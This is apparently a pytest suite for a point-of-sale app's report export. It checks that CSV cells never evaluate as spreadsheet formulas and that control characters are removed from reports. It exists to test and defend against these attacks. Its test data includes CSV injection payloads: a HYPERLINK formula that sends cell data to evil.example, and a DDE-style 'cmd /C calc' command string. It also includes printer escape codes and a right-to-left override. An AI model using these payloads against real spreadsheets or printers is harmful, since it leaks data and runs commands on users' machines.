"""Whatever names reach a report: CSV cells a spreadsheet never evaluates, no control
characters in CSV or PDF, and letters beyond Latin-1 kept in PDFs and transliterated on
receipts."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from sqlalchemy import update

from ewarong_pos.db.models import Family
from ewarong_pos.printing import report_csv
from ewarong_pos.printing.safe_text import clean_text, csv_cell
from ewarong_pos.services import reports
from tests.printing.calc import open_in_calc
from tests.printing.world import seed

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "+6281234567890",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CONTROLS = [
    "Siti\x00Aminah",
    "Sri\x1b@\x1d\x56Wahyuni",  # ESC @, GS V: printer init and cut
    "Ahmad\rFauzi",
    "\tTab Awal",
    "Dewi\u202eirahK",  # right-to-left override
]


@pytest.fixture
def hostile(ctx):
    names = INJECTIONS + CONTROLS
    world = seed(ctx, families=len(names))
    with ctx.db.write() as s:
        for family_id, name in zip(world.families, names, strict=True):
            s.execute(update(Family).where(Family.id == family_id).values(name=name))
    return names


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_never_evaluate_and_carry_no_control_characters(ctx, hostile):
    data = report_csv.monthly_csv(reports.monthly_report(ctx, "2018-04"))
    text = data.decode("utf-8-sig")
    assert not any(ord(ch) < 32 and ch not in "\r\n" for ch in text)
    assert "\x7f" not in text and "\u202e" not in text
    # every record ends with CRLF; no bare CR or LF inside a cell
    assert text.count("\r\n") == len(hostile) + 1 and text.count("\n") == text.count("\r")
    names = {row["dtks_id"]: row["name"] for row in _rows(data)}
    by_name = sorted(names.values())
    for name in INJECTIONS:
        assert "'" + name in by_name, name
    assert "SitiAminah" in by_name
    assert "Sri@VWahyuni" in by_name  # the commands' letters stay, their bytes do not
    assert "Ahmad Fauzi" in by_name
    assert "' Tab Awal" in by_name  # a leading tab: a space and the apostrophe
    assert "DewiirahK" in by_name
    for value in names.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    # figures stay numbers, negative ones too
    assert csv_cell(-5_000) == -5_000 and csv_cell("-2.5") == "-2.5"
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("  =1") == "'  =1"
    assert csv_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"  # full-width equals sign


def test_clean_text_keeps_letters_and_drops_controls():
    assert clean_text("Çağrı Łukasz Nguyễn") == "Çağrı Łukasz Nguyễn"
    assert clean_text("a\nb\tc\x0bd\x85e") == "a b c d e"
    assert clean_text("x\x00\x1b\x7f\x9by") == "xy"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice Calc not installed")
def test_libreoffice_opens_the_csv_without_a_formula_or_link(ctx, hostile, tmp_path):
    """LibreOffice itself (headless) opens the CSV as a user would and saves it as .ods:
    the saved sheet holds no formula and no link, and the names show as text."""
    source = tmp_path / "bulanan.csv"
    source.write_bytes(report_csv.monthly_csv(reports.monthly_report(ctx, "2018-04")))
    content = open_in_calc(source)
    assert "table:formula" not in content
    assert "xlink:href" not in content and "text:a " not in content
    assert "HYPERLINK" in content  # the text is there, as text
    assert 'office:value-type="float" office:value="110000"' in content  # figures: numbers
    # a control check of the check: the raw names, unneutralised, do become formulas
    raw = tmp_path / "raw.csv"
    raw.write_text("name\r\n" + "\r\n".join(f'"{n}"' for n in INJECTIONS[:2]) + "\r\n")
    raw_content = open_in_calc(raw)
    assert "table:formula" in raw_content


def test_pdf_receipt_embeds_the_shipped_mono_font(ctx, sales):
    from pypdf import PdfReader

    from ewarong_pos.printing.labels import Labels
    from ewarong_pos.printing.pdf_receipt import render_receipt_pdf
    from ewarong_pos.printing.receipt import build_receipt

    with ctx.db.read() as s:
        receipt = build_receipt(s, sales.redemption)
    page = PdfReader(io.BytesIO(render_receipt_pdf(receipt, Labels.for_lang("id"), 80))).pages[0]
    fonts = page["/Resources"]["/Font"]
    base = {str(fonts[k].get_object()["/BaseFont"]) for k in fonts}
    assert base and all("DejaVuSansMono" in name for name in base), base
